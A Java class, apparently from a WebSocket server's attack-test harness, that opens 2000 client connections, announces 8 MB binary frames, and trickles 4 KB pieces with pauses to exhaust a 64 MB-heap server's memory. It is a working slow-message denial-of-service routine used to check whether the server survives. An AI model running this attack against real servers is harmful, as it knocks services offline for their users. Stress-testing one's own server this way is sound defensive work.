package io.hexsocket.demo.attacks;

import static io.hexsocket.demo.attacks.Frames.BINARY;
import static io.hexsocket.demo.attacks.Frames.FIN;
import static io.hexsocket.demo.attacks.Frames.header;

import java.time.Duration;
import java.util.List;

/** Many clients send a little of a large message again and again. None of them holds much. */
final class SlowUnfinishedMessages implements Attack {

    private static final int CONNECTIONS = 2000;
    // as much as there may be with so small a heap
    private static final int ANNOUNCED = 8 * 1024 * 1024 - 1;
    private static final int PIECE = 4 * 1024;
    private static final int PIECES = 12;
    private static final Duration PAUSE = Duration.ofMillis(50);

    @Override
    public String id() {
        return "M1 slow";
    }

    @Override
    public List<String> javaOptions() {
        return List.of("-Xmx64m");
    }

    @Override
    public void lead(Battle battle, Duration length) throws Exception {
        List<Client> clients = battle.crowd().open(CONNECTIONS, Manner.at("/echo"));
        byte[] piece = new byte[PIECE];
        clients.forEach(one -> one.send(header(FIN | BINARY, ANNOUNCED)));
        for (int i = 0; i < PIECES && battle.server().isAlive(); i++) {
            clients.forEach(one -> one.send(piece));
            battle.crowd().awaitFlushed(length);
            battle.go(PAUSE);
        }
    }
}
